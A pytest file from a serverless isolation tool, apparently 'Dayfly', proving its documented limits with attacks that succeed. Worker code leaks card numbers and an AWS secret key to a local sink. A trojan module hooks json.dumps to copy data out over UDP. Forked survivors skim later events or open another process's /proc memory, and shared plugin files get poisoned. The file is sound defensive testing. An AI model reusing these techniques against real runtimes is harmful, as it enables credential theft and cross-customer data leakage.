"""What Dayfly does not stop (docs/security-evidence.md, "Out of reach"): each limit shown to be real, and where it ends.

A limit that nobody sees any more is as false as a promise that does not hold: these attacks must work.
"""

from __future__ import annotations

import socket
import socketserver
import threading
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from tests.attacks.shop import FUNCTIONS, Shop, Sink, needs_confinement
from tests.attacks.test_ahead import HOOKS, READ
from tests.attacks.test_extensions import AGENT, shop_with_extension
from tests.attacks.test_places import home
from tests.attacks.test_runtime_api_unlocked import RAW, STATES, unlocked
from tests.confined import Confinement, confinement_here

from dayfly.lab.gauntlet.payloads import CLIENT, PROGRAM

pytestmark = needs_confinement()

# Attacks that race with the runtime need not win at once.
ROUNDS = 40
# More customers than can be served while an interpreter starts.
MANY = 300
SUPERVISOR = """
supervisor = int(open(f"/proc/{os.getppid()}/stat").read().rpartition(")")[2].split()[1])
"""
# Whoever kills it ends with it, but for children that were there before.
KILL = "\nos.kill(supervisor, 9)\ntime.sleep(1)\n"


# ---- within the worker ----------------------------------------------------------------------------


def test_within_its_invocation_an_attacker_has_event_credentials_and_network(dayfly_shop: Shop) -> None:
    dayfly_shop.attack("leak(event['card'] + ' ' + os.environ['AWS_SECRET_ACCESS_KEY'])", card="4111")
    assert dayfly_shop.sink.received() == ["4111 not-a-real-key"]
    assert dayfly_shop.stolen(dayfly_shop.serve(3)) == 0


@pytest.fixture
def store() -> Iterator[int]:
    """The port of a server outside the environment, which answers with what it was sent before."""
    kept = [b"nothing"]

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            kept.append(self.request.recv(99))
            self.request.sendall(kept[-2])

    with socketserver.TCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield server.server_address[1]
        server.shutdown()
        thread.join()


def test_what_an_invocation_stores_outside_the_environment_meets_a_later_one(
    store: int, dayfly_shop: Shop
) -> None:
    call = """
with socket.create_connection(("127.0.0.1", event["store"]), timeout=60) as out:
    out.sendall(event["text"].encode())
    result = out.recv(99).decode()
"""
    assert dayfly_shop.result_of(call, store=store, text="card 4111") == "nothing"
    dayfly_shop.serve(1)
    assert dayfly_shop.result_of(call, store=store, text="?") == "card 4111"


# Records of a queue, a secret that init made, and a library that draws numbers by itself.
BATCH = """
import ctypes, os
SECRET = os.urandom(8).hex()
LIBRARY = ctypes.CDLL(None)
LIBRARY.srand(int.from_bytes(os.urandom(4), "little"))
PRICES = {"book": 10}
def serve(record):
    names = {**globals(), "result": PRICES["book"]}
    exec(record.get("code", ""), names)
    return names["result"]
def handler(event, context):
    return [serve(record) for record in event["records"]]
"""


@pytest.fixture(scope="module")
def batches(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    folder = tmp_path_factory.mktemp("batches")
    (folder / "app.py").write_text(BATCH)
    with Shop("dayfly", function=folder) as shop:
        yield shop


def in_two_workers(shop: Shop, code: str) -> list[object]:
    """What the code's `result` is in two workers."""
    found: dict[object, object] = {}
    for _ in range(2):
        payload = shop.rie.invoke({"records": [{"code": code}, {"code": "result = os.getpid()"}]}).payload
        assert isinstance(payload, list), payload
        found[payload[1]] = payload[0]
    assert len(found) == 2, "one worker served both"
    return list(found.values())


def test_records_of_one_batch_share_a_worker(batches: Shop) -> None:
    attack = {"code": "PRICES['book'] = 0"}
    assert batches.rie.invoke({"records": [{}, attack, {}]}).payload == [10, 10, 0]
    assert batches.rie.invoke({"records": [{}]}).payload == [10]


def test_every_worker_reads_what_init_made(batches: Shop) -> None:
    """A secret, the seed of hashes, addresses: what one worker tells an attacker is true of the others."""
    for code in ("result = SECRET", "result = hash('card')", "result = id(PRICES)"):
        one, other = in_two_workers(batches, code)
        assert one == other, code


def test_a_library_that_draws_numbers_by_itself_repeats_them(batches: Shop) -> None:
    one, other = in_two_workers(batches, "result = LIBRARY.rand()")
    assert one == other


def test_a_trojan_that_runs_at_import_is_in_every_worker(tmp_path: Path) -> None:
    (tmp_path / "trojan.py").write_text(
        "import json, os, socket\n"
        "dumps, port = json.dumps, int(os.environ['SINK'])\n"
        "def copying(data, *rest, **more):\n"
        "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:\n"
        "        out.sendto(str(data).encode(), ('127.0.0.1', port))\n"
        "    return dumps(data, *rest, **more)\n"
        "json.dumps = copying\n"
    )
    (tmp_path / "app.py").write_text((FUNCTIONS / "app.py").read_text() + "\nimport trojan\n")
    with Sink() as sink, Shop("dayfly", function=tmp_path, environment={"SINK": str(sink.port)}) as shop:
        cards = shop.serve(3)
        assert sink.seen(cards) == set(cards)


def test_a_number_that_the_kernel_counts_carries_some_bits(dayfly_shop: Shop) -> None:
    """Nothing is left behind, and the next process number tells a later attacker three bits."""
    look = "symbol = lambda: divmod(int(open('/proc/loadavg').read().split()[4]) % 256, 32)\n"
    send = """
import threading
while not (symbol()[0] == event["symbol"] and symbol()[1] < 4):
    thread = threading.Thread(target=int)
    thread.start()
    thread.join()
"""
    for symbol in (5, 2, 7, 0):
        dayfly_shop.attack(look + send, symbol=symbol)
        assert dayfly_shop.result_of(look + "result = symbol()[0]") == symbol


def test_what_a_dead_worker_has_written_to_a_connection_takes_memory_until_it_is_sent(
    dayfly_shop: Shop,
) -> None:
    """L2. As slowly as he wants (SO_MAX_PACING_RATE); only who may administer the network could end it."""
    send = """
import struct
host, _, port = event["api"].rpartition(":")
out = socket.create_connection((host, int(port)))
out.setsockopt(socket.SOL_SOCKET, 47, struct.pack("Q", 50_000))
out.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
# Ten segments go out unpaced.
for byte in b"POST /2018-06-01/runtime/init/error HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 9000000\\r\\n\\r\\n":
    out.send(bytes([byte]))
out.setblocking(False)
out.send(bytes(200_000))
"""
    look = """
port = "%04X" % int(event["api"].rpartition(":")[2])
rows = [line.split() for line in open("/proc/net/tcp")][1:]
# Nobody's, with bytes that are not sent.
result = [int(row[4][:8], 16) for row in rows if row[2].endswith(":" + port) and row[9] == "0"]
"""
    dayfly_shop.attack(send)
    kept = dayfly_shop.result_of(look)
    assert isinstance(kept, list)
    assert max(kept, default=0) > 50_000


def test_for_a_minute_a_worker_reads_whom_earlier_customers_were_connected_to(dayfly_shop: Shop) -> None:
    """L2. A customer's worker need do no more than close a connection before its peer does."""
    visit = "socket.create_connection(('127.0.0.1', event['to'])).close()\nresult = 'closed'"
    look = """
peers = [line.split()[2] for line in open("/proc/net/tcp")]
result = "0100007F:%04X" % event["to"] in peers
"""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        assert dayfly_shop.result_of(visit, to=port) == "closed"
        assert dayfly_shop.result_of(look, to=port) is True


def test_native_code_goes_on_between_two_events_of_its_window() -> None:
    """L3. The kernel continues the stopped worker, by a timer whose signal is SIGCONT, until the window's end."""
    code = """
import ctypes, threading
library, timer = ctypes.CDLL("librt.so.1"), ctypes.c_void_p()
# struct sigevent: a value of eight bytes, the signal, SIGEV_SIGNAL.
assert library.timer_create(1, (ctypes.c_int * 16)(0, 0, 18, 0), ctypes.byref(timer)) == 0
assert library.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 1000000, 1, 0), None) == 0
def report():
    while True:
        leak("between")
        time.sleep(0.05)
threading.Thread(target=report, daemon=True).start()
"""
    settings = {"DAYFLY_ISOLATION": "window", "DAYFLY_MAX_INVOCATIONS": "2", "DAYFLY_JITTER": "0"}
    with Shop("dayfly", environment=settings) as shop:
        shop.attack(code)
        # It has been stopped, and is quiet for a while: running on, it would say 200 words in ten seconds.
        assert len(shop.sink.received(quiet_s=0.15)) < 100
        shop.sink.wait_for("between")
        shop.serve(1)
        while shop.sink.received(quiet_s=0.0001):
            pass
        shop.serve(2, takes=0.1)
        assert shop.sink.received() == []


# ---- the platform and the runtime's next life -----------------------------------------------------


def test_without_the_lock_a_worker_takes_events_until_it_is_seen() -> None:
    with unlocked("invocation") as shop:
        shop.serve(1)
        stolen = 0
        for _ in range(ROUNDS):
            shop.attack(RAW + STATES["holds an event"])
            if stolen := shop.serve_beside_a_thief(2):
                break
        assert stolen == 1, "the limit is not what it is said to be"
        shop.wait_for_finding("environment.infected")
        assert shop.stolen(shop.serve(5)) == 0


def test_a_survivor_takes_events_before_the_next_life_has_begun() -> None:
    code = CLIENT + SUPERVISOR + "if os.fork() == 0:\n    os.setsid()\n    skim(6)\n    os._exit(0)" + KILL
    with Shop("dayfly") as shop:
        shop.serve(1)
        for _ in range(ROUNDS):
            shop.attack(code)
            taken = 0
            while shop.serve_beside_a_thief(1, may_time_out=1):
                taken += 1
                assert taken < MANY, "it is not ended"
            # It is gone with the first act of the new life.
            assert shop.stolen(shop.serve(3)) == 0
            if taken:
                return
    pytest.fail("the limit is not what it is said to be")


def test_a_survivor_can_write_the_memory_of_the_next_lifes_first_interpreter() -> None:
    """Until that one ends it, before it executes the closed one and loads function code."""
    code = """
if os.fork() == 0:
    os.setsid()
    end = time.time() + 6
    while time.time() < end:
        for name in os.listdir("/proc"):
            try:
                if name.isdigit():
                    line = open(f"/proc/{name}/cmdline", "rb").read()
                    # Not the platform's process, whose arguments are the same and more.
                    if b"dayfly.runtime" in line and b"emulator" not in line:
                        open(f"/proc/{name}/mem", "r+b").close()
                        leak("opened")
            except OSError:
                pass
    os._exit(0)
"""
    with Shop("dayfly") as shop:
        shop.serve(1)
        shop.attack(code + "time.sleep(0.1)")
        assert "opened" not in shop.sink.received(), "memory is not closed: this test proves nothing"
        for _ in range(ROUNDS):
            shop.attack(SUPERVISOR + code + KILL)
            shop.rie.invoke({"card": "4000111122223333"})
            shop.serve(2)
            if "opened" in shop.sink.received():
                break
        else:
            pytest.fail("the limit is not what it is said to be")
        # It is gone, and what serves is closed.
        shop.serve(2, takes=0.05)
        assert shop.sink.received() == []


def test_a_daemon_that_an_extension_makes_is_taken_for_a_leftover(tmp_path: Path) -> None:
    daemon = '    subprocess.run(["/bin/sh", "-c", "sleep 600 & echo daemon $!"])\n'
    agent = AGENT.replace("    print(", daemon + "    print(", 1)
    with shop_with_extension(tmp_path, agent=agent) as shop:
        shop.serve(3)
        shop.wait_for_finding("residue.process")
        # The extension itself is not.
        seen = len(shop.rie.logs().split("agent "))
        shop.serve(2)
        assert len(shop.rie.logs().split("agent ")) > seen


# ---- files ----------------------------------------------------------------------------------------


def test_data_of_the_image_stays_as_an_invocation_changed_it(tmp_path: Path) -> None:
    with home("dayfly", tmp_path) as shop:
        shop.attack("open('/home/of-the-image', 'w').write('poison')")
        shop.wait_for_finding("residue.kept-file")
        assert shop.result_of("result = open('/home/of-the-image').read()") == "poison"


def test_code_in_a_directory_that_others_share_is_run_as_an_attacker_left_it(tmp_path: Path) -> None:
    """Named in the first line; a mount like this is not the environment's to clear."""
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    (shared / "plugin.py").write_text("RATE = 'shipped'\n")
    (shared / "plugin.py").chmod(0o666)
    with home("dayfly", tmp_path / "f", mounted=shared, PLUGIN="", PYTHONPATH="/mnt/work") as shop:
        assert b"shipped" in shop.rie.invoke({"card": "4"}).body
        shop.attack("open('/mnt/work/plugin.py', 'w').write(\"RATE = 'poison'\")")
        assert b"poison" in shop.rie.invoke({"card": "4"}).body
        assert "/mnt/work (shared with the machine or other environments)" in shop.rie.logs()


class _WithDeepDirectory(Confinement):
    """The confinement of this machine, whose image has one writable directory, four levels down."""

    def wrap(
        self, command: Sequence[str], *, task: Path, binds: Sequence[Path], refusals: bool = False
    ) -> list[str]:
        line = super().wrap(command, task=task, binds=binds, refusals=refusals)
        more = ["--perms", "0755", "--tmpfs", "/media"]
        for name, mode in (("/media/a", "0755"), ("/media/a/b", "0755"), ("/media/a/b/open", "0777")):
            more += ["--perms", mode, "--dir", name]
        at = line.index("--chdir")
        return [*line[:at], *more, *line[at:]]


def test_a_writable_directory_deeper_than_is_looked_at_keeps_its_files() -> None:
    shop = Shop("dayfly")
    here = confinement_here()
    shop.rie.confinement = _WithDeepDirectory(here.kind, here.reason)
    with shop:
        shop.attack("open('/media/a/b/open/stash', 'w').write('card')")
        shop.serve(2)
        assert shop.result_of("result = os.listdir('/media/a/b/open')") == ["stash"]


# ---- a machine that is not the function's alone ---------------------------------------------------


def test_a_process_that_sheds_mark_and_parent_dies_beside_others() -> None:
    leave = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, ["python3", "-S", "-c", code], {})
    os._exit(0)
time.sleep(0.3)
"""
    with Shop("dayfly", environment={"DAYFLY_SCOPE": "descendants"}) as shop:
        shop.serve(1)
        shop.attack(PROGRAM + leave)
        shop.serve(1)
        while shop.sink.received(quiet_s=0.0001):
            pass
        shop.serve(2, takes=0.1)
        # The supervisor knows it by its hard limits, which nobody sheds.
        assert "alive" not in shop.sink.received()


def test_a_thread_of_inits_reads_what_a_worker_left_outside_the_private_directory(tmp_path: Path) -> None:
    init, settings = HOOKS["a thread that sleeps between rounds"]
    (tmp_path / "app.py").write_text(f"PORT = 9\n{READ}\n{init}\n")
    with Shop("dayfly", function=tmp_path, environment={**settings, "DAYFLY_SCOPE": "descendants"}) as shop:
        shop.attack("open('/tmp/flag', 'w').write('poison')")
        end = time.monotonic() + 60
        while b"poison" not in shop.rie.invoke({"card": "4"}).body:
            assert time.monotonic() < end, "the limit is not what it is said to be"
        assert "files outside the private temporary directory" in shop.rie.logs()
